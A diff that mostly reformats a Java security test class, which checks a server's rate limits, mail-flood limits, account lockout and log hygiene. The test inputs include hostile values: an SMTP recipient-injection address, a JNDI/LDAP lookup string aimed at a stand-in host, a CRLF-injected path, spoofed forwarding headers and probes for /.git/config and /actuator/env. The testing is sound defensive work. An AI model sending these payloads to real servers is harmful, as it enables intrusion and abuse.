@@ -28,8 +28,8 @@ import verbatim.http.Route;
 import verbatim.kernel.Limits;
 import verbatim.mail.SmtpSink;
 
-/// The server as it runs for people: limits hold, addresses are confirmed by mail. It stands behind a
-/// proxy here, so that each situation comes from a network of its own.
+/// The server as it runs for people: limits hold, addresses are confirmed by mail. It stands behind
+/// a proxy here, so that each situation comes from a network of its own.
 class AtTheDoorInEarnestTest {
   private static final String WRONG = "not the password at all";
   private static final Limits.People LIMITS = Limits.usual().people();
@@ -103,30 +103,45 @@ class AtTheDoorInEarnestTest {
   // ---- api-05
 
   @Test
-  void whatever_addresses_one_claims_guessing_and_joining_end_at_the_same_number() throws IOException {
+  void whatever_addresses_one_claims_guessing_and_joining_end_at_the_same_number()
+      throws IOException {
     try (RunningServer direct = RunningServer.inEarnest(folder.resolve("direct"), Map.of())) {
       assertThat(firstRefused(i -> new Stranger(direct, claims("198.51.100." + i)))).isEqualTo(26);
       Stranger one = new Stranger(direct, claims("198.51.100.7"));
-      assertThat(one.api("POST", "/api/v1/apps", "", Map.of("client_name", "x", "redirect_uris", Stranger.OUT_OF_BAND)).status())
+      assertThat(
+              one.api(
+                      "POST",
+                      "/api/v1/apps",
+                      "",
+                      Map.of("client_name", "x", "redirect_uris", Stranger.OUT_OF_BAND))
+                  .status())
           .isEqualTo(200);
       int joined = 0;
       for (int i = 0; i < 50; i++) {
         Stranger next = new Stranger(direct, claims("198.51.100." + i));
         joined +=
-            next.api("POST", "/api/v1/apps", "", Map.of("client_name", "x", "redirect_uris", Stranger.OUT_OF_BAND)).status()
+            next.api(
+                            "POST",
+                            "/api/v1/apps",
+                            "",
+                            Map.of("client_name", "x", "redirect_uris", Stranger.OUT_OF_BAND))
+                        .status()
                     == 200
                 ? 1
                 : 0;
       }
       assertThat(joined).isEqualTo(LIMITS.registrationsPerAddressMax() - 1);
     }
-    assertThat(firstRefused(i -> new Stranger(server, claims("198.51.100." + i + ", 203.0.113.200"))))
+    assertThat(
+            firstRefused(i -> new Stranger(server, claims("198.51.100." + i + ", 203.0.113.200"))))
         .isEqualTo(26);
   }
 
   private static String[] claims(String address) {
     String first = address.split(",", 2)[0];
-    return new String[] {"X-Forwarded-For", address, "Forwarded", "for=" + first, "X-Real-IP", first};
+    return new String[] {
+      "X-Forwarded-For", address, "Forwarded", "for=" + first, "X-Real-IP", first
+    };
   }
 
   private static int firstRefused(java.util.function.IntFunction<Stranger> strangers) {
@@ -147,9 +162,11 @@ class AtTheDoorInEarnestTest {
     somebody().joins(app, "bothered");
     for (int i = 0; i < 50; i++) {
       Stranger next = somebody();
-      assertThat(next.submit("/auth/resend", "/auth/resend", Map.of("email", email)).status()).isIn(200, 422, 429);
+      assertThat(next.submit("/auth/resend", "/auth/resend", Map.of("email", email)).status())
+          .isIn(200, 422, 429);
       next.submit("/auth/password/forgot", "/auth/password/forgot", Map.of("email", email));
-      next.api("POST", "/api/v1/accounts", app.get("app_token"), Stranger.newcomer("other" + i, email));
+      next.api(
+          "POST", "/api/v1/accounts", app.get("app_token"), Stranger.newcomer("other" + i, email));
     }
     assertThat(lettersTo(email)).isBetween(1L, 2L * LIMITS.mailsPerAddressMax());
   }
@@ -160,8 +177,14 @@ class AtTheDoorInEarnestTest {
     String token = sender.joins(app, "sender");
     for (int i = 0; i < 50; i++) {
       sender.api(
-          "POST", "/api/v1/emails/confirmations", token, Map.of("email", "victim" + i + "@victims.example"));
-      sender.submit("/auth/password/forgot", "/auth/password/forgot", Map.of("email", "victim" + i + "@victims.example"));
+          "POST",
+          "/api/v1/emails/confirmations",
+          token,
+          Map.of("email", "victim" + i + "@victims.example"));
+      sender.submit(
+          "/auth/password/forgot",
+          "/auth/password/forgot",
+          Map.of("email", "victim" + i + "@victims.example"));
     }
     server.sendLetters();
     assertThat(sink.commands().stream().filter(c -> c.endsWith("@victims.example>")).count())
@@ -188,7 +211,12 @@ class AtTheDoorInEarnestTest {
             "a@x.test>\r\nRCPT TO:<c@z.test")) {
       int before = recipients().size();
       Stranger.Reply reply =
-          somebody().api("POST", "/api/v1/accounts", app.get("app_token"), Stranger.newcomer("odd" + tried++, email));
+          somebody()
+              .api(
+                  "POST",
+                  "/api/v1/accounts",
+                  app.get("app_token"),
+                  Stranger.newcomer("odd" + tried++, email));
       server.sendLetters();
       List<String> now = recipients().subList(before, recipients().size());
       if (reply.status() == 200) {
@@ -223,17 +251,23 @@ class AtTheDoorInEarnestTest {
   }
 
   private static Stranger.Reply forgets(String email) {
-    return somebody().submit("/auth/password/forgot", "/auth/password/forgot", Map.of("email", email));
+    return somebody()
+        .submit("/auth/password/forgot", "/auth/password/forgot", Map.of("email", email));
   }
 
   /// All that the client gets, without what it sent itself and what differs each time.
   private static String told(Stranger.Reply reply, String sent) {
     Map<String, List<String>> headers = new java.util.TreeMap<>(reply.headers());
-    headers.keySet().removeAll(List.of("date", "x-request-id", "content-length", "x-ratelimit-reset"));
+    headers
+        .keySet()
+        .removeAll(List.of("date", "x-request-id", "content-length", "x-ratelimit-reset"));
     return reply.status()
         + " "
         + headers
-        + reply.body().replaceAll("name=\"form_token\" value=\"[^\"]*\"", "").replace(sent, "LOGIN");
+        + reply
+            .body()
+            .replaceAll("name=\"form_token\" value=\"[^\"]*\"", "")
+            .replace(sent, "LOGIN");
   }
 
   // ---- api-09
@@ -250,7 +284,9 @@ class AtTheDoorInEarnestTest {
       String name = "held_" + state.name().toLowerCase(Locale.ROOT);
       String itsToken = member(somebody(), name);
       var account = server.accounts().find(Handle.here(name)).orElseThrow();
-      server.accounts().change(account.id(), a -> a.with(new Standing(state, Standing.Role.USER, false)));
+      server
+          .accounts()
+          .change(account.id(), a -> a.with(new Standing(state, Standing.Role.USER, false)));
       assertClosed(itsToken, state.toString());
     }
   }
@@ -265,11 +301,18 @@ class AtTheDoorInEarnestTest {
               || route.access() instanceof Access.Stream;
       if (reads) {
         boolean hasBody = !List.of("GET", "DELETE").contains(route.method().name());
-        // Each from another network, since who comes with a token that does not count is counted by it.
+        // Each from another network, since who comes with a token that does not count is counted by
+        // it.
         Stranger.Reply reply =
             somebody()
-                .api(route.method().name(), route.path().replaceAll("[:*]\\w+", "1"), token, hasBody ? Map.of() : null);
-        assertThat(reply.status()).as(state + " " + route.path() + " " + reply.body()).isIn(401, 403);
+                .api(
+                    route.method().name(),
+                    route.path().replaceAll("[:*]\\w+", "1"),
+                    token,
+                    hasBody ? Map.of() : null);
+        assertThat(reply.status())
+            .as(state + " " + route.path() + " " + reply.body())
+            .isIn(401, 403);
         assertThat(reply.text("error")).isNotEmpty();
         tried++;
       }
@@ -296,23 +339,34 @@ class AtTheDoorInEarnestTest {
                     here.submit(
                             "/settings/security",
                             "/settings/security/password",
-                            Map.of("current_password", Stranger.PASSWORD, "password", "another long password"))
+                            Map.of(
+                                "current_password",
+                                Stranger.PASSWORD,
+                                "password",
+                                "another long password"))
                         .status())
                 .isEqualTo(303);
         case "letter" -> {
           String email = name + "@mail.example";
-          somebody().submit("/auth/password/forgot", "/auth/password/forgot", Map.of("email", email));
+          somebody()
+              .submit("/auth/password/forgot", "/auth/password/forgot", Map.of("email", email));
           String link = link(email, "/auth/reset");
           Stranger resets = somebody();
           Map<String, String> form = Map.of("token", link, "password", "another long password");
-          assertThat(resets.submit("/auth/reset?token=" + link, "/auth/reset", form).status()).isEqualTo(200);
-          assertThat(resets.submit("/auth/reset?token=" + link, "/auth/reset", form).status()).isEqualTo(422);
+          assertThat(resets.submit("/auth/reset?token=" + link, "/auth/reset", form).status())
+              .isEqualTo(200);
+          assertThat(resets.submit("/auth/reset?token=" + link, "/auth/reset", form).status())
+              .isEqualTo(422);
         }
-        default -> server.command("another long password", "account", "password", name, "--password-stdin");
+        default ->
+            server.command(
+                "another long password", "account", "password", name, "--password-stdin");
       }
       assertThat(me(here, token)).as(way).isEqualTo(401);
       assertThat(elsewhere.page("/settings/security").status()).as(way).isNotEqualTo(200);
-      assertThat(here.page("/settings/security").status() == 200).as(way).isEqualTo(way.equals("page"));
+      assertThat(here.page("/settings/security").status() == 200)
+          .as(way)
+          .isEqualTo(way.equals("page"));
       assertThat(somebody().signIn(name, Stranger.PASSWORD).status()).as(way).isEqualTo(422);
       assertThat(somebody().signIn(name, "another long password").status()).as(way).isEqualTo(303);
     }
@@ -372,7 +426,8 @@ class AtTheDoorInEarnestTest {
     lines.start();
     root.addAppender(lines);
     root.setLevel(Level.DEBUG);
-    List<String> secrets = new ArrayList<>(List.of("zymurgy", "quixotry", Stranger.PASSWORD, WRONG));
+    List<String> secrets =
+        new ArrayList<>(List.of("zymurgy", "quixotry", Stranger.PASSWORD, WRONG));
     try {
       Stranger who = somebody();
       String token = member(who, "zymurgy_name");
@@ -381,12 +436,28 @@ class AtTheDoorInEarnestTest {
       secrets.addAll(who.cookies.values());
       for (String visibility : List.of("public", "private", "direct")) {
         who.api(
-            "POST", "/api/v1/statuses", token, Map.of("status", "quixotry #quixotry", "visibility", visibility));
+            "POST",
+            "/api/v1/statuses",
+            token,
+            Map.of("status", "quixotry #quixotry", "visibility", visibility));
       }
       String hostile = "quixotry[31m ${jndi:ldap://quixotry.example/a}" + "x".repeat(4_000);
-      who.api("GET", "/api/v1/timelines/tag/quixotry?q=quixotry", token, null, "User-Agent", hostile);
-      who.api("GET", "/quixotry/%0d%0aquixotry?access_token=" + token, token, null, "X-Request-Id", "quixotry");
-      who.api("POST", "/api/v1/statuses", token, "{\"status\": \"quixotry", "Content-Type", "application/json");
+      who.api(
+          "GET", "/api/v1/timelines/tag/quixotry?q=quixotry", token, null, "User-Agent", hostile);
+      who.api(
+          "GET",
+          "/quixotry/%0d%0aquixotry?access_token=" + token,
+          token,
+          null,
+          "X-Request-Id",
+          "quixotry");
+      who.api(
+          "POST",
+          "/api/v1/statuses",
+          token,
+          "{\"status\": \"quixotry",
+          "Content-Type",
+          "application/json");
       who.api("GET", "/api/v1/statuses/1", "quixotry-token", null);
       who.page("/@zymurgy_name");
       changesMail(who, "zymurgy2@mail.example", Stranger.PASSWORD);
@@ -400,8 +471,15 @@ class AtTheDoorInEarnestTest {
     }
     assertThat(lines.list).isNotEmpty();
     for (ILoggingEvent line : lines.list) {
-      String said = line.getFormattedMessage() + " " + line.getKeyValuePairs() + " " + Arrays.toString(line.getArgumentArray());
-      assertThat(said.toLowerCase(Locale.ROOT)).doesNotContain(secrets.stream().map(s -> s.toLowerCase(Locale.ROOT)).toArray(String[]::new));
+      String said =
+          line.getFormattedMessage()
+              + " "
+              + line.getKeyValuePairs()
+              + " "
+              + Arrays.toString(line.getArgumentArray());
+      assertThat(said.toLowerCase(Locale.ROOT))
+          .doesNotContain(
+              secrets.stream().map(s -> s.toLowerCase(Locale.ROOT)).toArray(String[]::new));
       assertThat(said).doesNotContain("203.0.", "\n", "\r", "\u001b").hasSizeLessThan(8_000);
     }
   }
@@ -413,11 +491,21 @@ class AtTheDoorInEarnestTest {
     Stranger who = somebody();
     for (String path :
         List.of(
-            "/metrics", "/admin", "/design", "/api/v1/admin/accounts", "/api/v1/admin/reports", "/.git/config",
-            "/actuator", "/actuator/env", "/debug", "/data/store/CURRENT")) {
+            "/metrics",
+            "/admin",
+            "/design",
+            "/api/v1/admin/accounts",
+            "/api/v1/admin/reports",
+            "/.git/config",
+            "/actuator",
+            "/actuator/env",
+            "/debug",
+            "/data/store/CURRENT")) {
       Stranger.Reply reply = who.api("GET", path, "", null);
       assertThat(reply.status()).as(path).isEqualTo(404);
-      assertThat(reply.body().toLowerCase(Locale.ROOT)).as(path).doesNotContain("jetty", "java", "exception");
+      assertThat(reply.body().toLowerCase(Locale.ROOT))
+          .as(path)
+          .doesNotContain("jetty", "java", "exception");
     }
     assertThat(who.api("TRACE", "/", "", null).status()).isEqualTo(405);
     Stranger.Reply health = who.api("GET", "/health", "", null);
@@ -437,7 +525,8 @@ class AtTheDoorInEarnestTest {
         assertThat(me.json().path("role").path("permissions").asString()).isEqualTo("0");
       }
       first.signIn("first", Stranger.PASSWORD);
-      assertThat(first.submit("/setup?code=guess", "/setup", Map.of("token", "guess")).status()).isEqualTo(422);
+      assertThat(first.submit("/setup?code=guess", "/setup", Map.of("token", "guess")).status())
+          .isEqualTo(422);
       assertThat(first.page("/setup?done=yes").status()).isEqualTo(200);
       for (String name : List.of("first", "second")) {
         assertThat(fresh.accounts().find(Handle.here(name)).orElseThrow().standing().role())
